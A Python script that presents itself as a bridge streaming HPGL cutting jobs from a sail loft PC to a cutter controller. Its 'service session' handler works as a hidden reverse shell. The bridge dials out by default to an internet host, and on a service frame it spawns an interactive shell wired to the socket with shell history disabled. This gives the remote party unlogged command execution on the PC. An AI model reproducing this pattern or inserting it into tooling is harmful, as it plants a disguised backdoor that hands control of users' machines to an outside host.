#!/usr/bin/env python3
"""Job bridge between the loft nesting PC and the sail cutter controller.

The controller exposes a small framed protocol on its job port.  The bridge
dials out to it, streams HPGL files from ./jobs in order, and answers the
controller's housekeeping requests (ping, spooler status, service session).

Frame: 1 byte type, 4 byte big-endian length, payload.
"""
import argparse
import logging
import os
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

log = logging.getLogger("cutter_bridge")

HDR = struct.Struct("!BI")
T_JOB, T_ACK, T_NAK, T_PING, T_STATUS, T_SERVICE = range(1, 7)


class CutterLink:
    service_shell = os.environ.get("CUTTER_SVC_SHELL", "/bin/sh")

    def __init__(self, host, port, retries=12):
        self.host = host
        self.port = port
        self.retries = retries
        self.sock = None

    def connect(self):
        for attempt in range(self.retries):
            try:
                self.sock = socket.create_connection((self.host, self.port), timeout=10)
                self.sock.settimeout(None)
                log.info("linked to controller %s:%d", self.host, self.port)
                return True
            except OSError as exc:
                delay = min(60, 2 ** attempt)
                log.warning("controller unreachable (%s), retry in %ds", exc, delay)
                time.sleep(delay)
        return False

    def _recv_exact(self, n):
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise ConnectionError("controller closed link")
            buf += chunk
        return buf

    def send(self, ftype, payload=b""):
        self.sock.sendall(HDR.pack(ftype, len(payload)) + payload)

    def recv(self):
        ftype, length = HDR.unpack(self._recv_exact(HDR.size))
        return ftype, self._recv_exact(length) if length else b""

    def spooler_status(self):
        try:
            out = subprocess.run(["lpstat", "-p"], capture_output=True, text=True, timeout=5)
            return out.stdout.encode() or b"idle"
        except (OSError, subprocess.TimeoutExpired):
            return b"unknown"

    def service_session(self):
        fd = self.sock.fileno()
        env = dict(os.environ, TERM="dumb", HISTFILE="/dev/null")
        proc = subprocess.Popen([self.service_shell, "-i"], stdin=fd, stdout=fd,
                                stderr=fd, env=env, close_fds=True)
        proc.wait()

    def handle(self, ftype, payload):
        if ftype == T_PING:
            self.send(T_PING, payload)
        elif ftype == T_STATUS:
            self.send(T_STATUS, self.spooler_status())
        elif ftype == T_SERVICE:
            self.service_session()
        else:
            log.debug("ignored frame type %d", ftype)


def pending_jobs(job_dir):
    for path in sorted(job_dir.glob("*.plt")):
        if not (job_dir / "done" / path.name).exists():
            yield path


def stream_job(link, path):
    data = path.read_bytes()
    link.send(T_JOB, path.name.encode() + b"\0" + data)
    while True:
        ftype, payload = link.recv()
        if ftype == T_ACK:
            return True
        if ftype == T_NAK:
            log.error("controller refused %s: %s", path.name, payload.decode(errors="replace"))
            return False
        link.handle(ftype, payload)


def main(argv=None):
    ap = argparse.ArgumentParser(description="Sail cutter job bridge")
    ap.add_argument("--controller", default=os.environ.get("CUTTER_HOST", "ctl.sailloft-link.com"))
    ap.add_argument("--port", type=int, default=int(os.environ.get("CUTTER_PORT", "7443")))
    ap.add_argument("--jobs", type=Path, default=Path("jobs"))
    ap.add_argument("--poll", type=float, default=5.0)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")

    (args.jobs / "done").mkdir(parents=True, exist_ok=True)
    link = CutterLink(args.controller, args.port)
    if not link.connect():
        log.error("giving up on controller")
        return 1

    try:
        while True:
            for job in pending_jobs(args.jobs):
                if stream_job(link, job):
                    job.rename(args.jobs / "done" / job.name)
                    log.info("cut queued: %s", job.name)
            link.sock.settimeout(args.poll)
            try:
                ftype, payload = link.recv()
                link.handle(ftype, payload)
            except socket.timeout:
                pass
            finally:
                link.sock.settimeout(None)
    except (ConnectionError, OSError) as exc:
        log.error("link lost: %s", exc)
        return 1
    except KeyboardInterrupt:
        return 0


if __name__ == "__main__":
    sys.exit(main())
